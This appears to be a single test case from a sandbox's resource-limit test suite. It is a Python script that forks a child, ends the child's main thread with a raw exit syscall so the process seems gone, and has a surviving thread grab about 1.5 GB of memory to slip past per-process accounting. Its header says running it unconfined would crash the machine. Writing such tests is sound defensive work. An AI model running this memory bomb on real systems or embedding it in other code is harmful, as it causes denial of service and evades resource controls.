# intent: a process whose first thread has ended, while another takes memory and descriptors: by its number there is nothing to see
# family: bombs
# danger: yes
# stock: not run: it would take this machine down
# limits: memory_bytes=1_000_000_000 cell_seconds=30
# stops: it used more than 953 MB of memory
# before: 2 GB that counted for nobody

# %%
import ctypes
import os
import platform
import threading
import time

said, say = os.pipe()

def take():
    time.sleep(0.5)
    kept = []
    for _ in range(15):
        kept.append(b"x" * 100_000_000)
        time.sleep(0.1)
    os.write(say, b"x")
    time.sleep(60)

if os.fork() == 0:
    threading.Thread(target=take).start()
    ctypes.CDLL(None).syscall(60 if platform.machine() == "x86_64" else 93, 0)
os.close(say)
if os.read(said, 1):
    print("the-attack" + "-worked")
